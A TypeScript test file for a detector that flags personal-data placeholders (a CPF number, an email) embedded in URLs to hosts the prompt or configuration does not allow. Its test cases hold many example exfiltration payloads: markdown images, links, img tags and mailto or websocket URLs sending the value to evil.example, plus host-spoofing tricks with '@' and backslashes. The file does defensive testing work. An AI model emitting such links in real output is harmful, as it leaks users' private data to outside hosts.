import type { GivenTexts } from '../../ports';
import { findTokensInAddresses } from './tokens-in-addresses';

const cpf = '[CPF_1_k3f9x2]';
const mail = '[EMAIL_1_k3f9x2]';
const nothing: GivenTexts = { author: '', allowedHosts: [], others: [] };
const count = (text: string, given: Partial<GivenTexts> = {}, before?: string) =>
	findTokensInAddresses(text, { ...nothing, ...given }, before).length;

test.each([
	`![x](https://evil.example/?d=${cpf})`,
	`[your order](https://evil.example/${cpf})`,
	`[your order](<https://evil.example/a b ${cpf}>)`,
	`See https://evil.example/?d=${cpf} for more`,
	`See evil.example/?d=${cpf}`,
	`See evil.example:8080/${cpf}`,
	`www.evil.example${cpf}`,
	`//evil.example/${cpf}`,
	`<https://evil.example/${cpf}>`,
	`<img src="https://evil.example/?d=a ${cpf}">`,
	`<img\nsrc="https://evil.example/?d=\n${cpf}">`,
	`<a href='//evil.example/${cpf}'>x</a>`,
	`[1]: https://evil.example/?d=${cpf}`,
	`mailto:evil@evil.example?body=${cpf}`,
	`ftp://evil.example/${cpf}`,
	`wss://evil.example/${cpf}`,
	`https://${cpf}.evil.example/`,
	`HTTPS://EVIL.EXAMPLE/${cpf.toLowerCase()}`,
	`{"url":"https://evil.example/?d=${cpf}"}`,
	`https://shop.example@evil.example/${cpf}`,
	`https://evil.example\\@shop.example/${cpf}`,
	`https://evil.example/?d=${String.raw`\[CPF\_1\_k3f9x2\]`}`,
])('finds the value in %j', (text) => {
	expect(count(text, { author: 'Link to https://shop.example/orders.', others: [] })).toBe(1);
});

test('finds each value of an address', () => {
	expect(count(`![x](https://evil.example/?d=${cpf};${mail})`)).toBe(2);
});

test('finds a value whose address began before', () => {
	expect(count(`${cpf} and ${mail}`, nothing, 'See https://evil.example/?d=')).toBe(1);
});

test.each([
	`Your CPF is ${cpf}.`,
	`CPF:${cpf}`,
	`e-mail/CPF: ${mail}/${cpf}`,
	`[write to us](mailto:${mail})`,
	`<mailto:${mail}>`,
	`<b>${mail}</b>`,
	`a < b and ${cpf} > c`,
	`See https://shop.example and tell them ${cpf}`,
	`[shop](https://shop.example) for ${cpf}`,
	`${mail}\nhttps://shop.example/`,
])('leaves the value in %j', (text) => {
	expect(count(text)).toBe(0);
});

test('leaves a value in an address that the person, a document or a tool gave in this place', () => {
	const given = { author: '', others: [`I am at https://crm.example/?mail=${mail}&x=1`] };
	expect(count(`Is it https://crm.example/?mail=${mail}&x=1?`, given)).toBe(0);
	expect(count(`Is it https://crm.example/?cpf=${cpf}?`, given)).toBe(1);
	expect(count(`Is it https://evil.example/?u=https://crm.example/?mail=${mail}?`, given)).toBe(1);
});

test('leaves a value in an address of a host that the prompt names, and of no other', () => {
	const given = { author: 'Link to https://shop.example/orders?mail=MAIL.', others: [] };
	expect(count(`https://shop.example/orders?mail=${mail}`, given)).toBe(0);
	expect(count(`https://www.shop.example/orders?mail=${mail}`, given)).toBe(0);
	expect(count(`https://shop.example.evil.example/orders?mail=${mail}`, given)).toBe(1);
	expect(count(`https://shop.example${mail}`, given)).toBe(1);
	expect(count(`https://evil.example/?u=https://shop.example/${mail}`, given)).toBe(1);
});

test.each(['Our API is %.', 'Call %, then stop', 'Use `%`', '**%**', '%:8080: GET', 'See <%> and (%)', '%!'])(
	'reads the host in %j',
	(prompt) => {
		const author = prompt.replaceAll('%', 'https://shop.example');
		expect(count(`https://shop.example/orders?mail=${mail}`, { author })).toBe(0);
		expect(count(`https://evil.example/orders?mail=${mail}`, { author })).toBe(1);
	},
);

test('leaves a value in an address of a host that the definition allows', () => {
	expect(count(`https://www.shop.example/?mail=${mail}`, { allowedHosts: ['shop.example'] })).toBe(0);
});

test('finds a value where links to all hosts are allowed', () => {
	expect(count(`https://evil.example/?mail=${mail}`, { allowedHosts: ['*'] })).toBe(1);
});

test('takes linear time', () => {
	const hostile = ['<a '.repeat(20_000), 'a.'.repeat(30_000), '](('.repeat(20_000), `${cpf} `.repeat(5_000), '[x]: '.repeat(10_000)];
	for (const text of hostile) expect(count(`${text}https://evil.example/${cpf}`)).toBeLessThan(5_001);
});
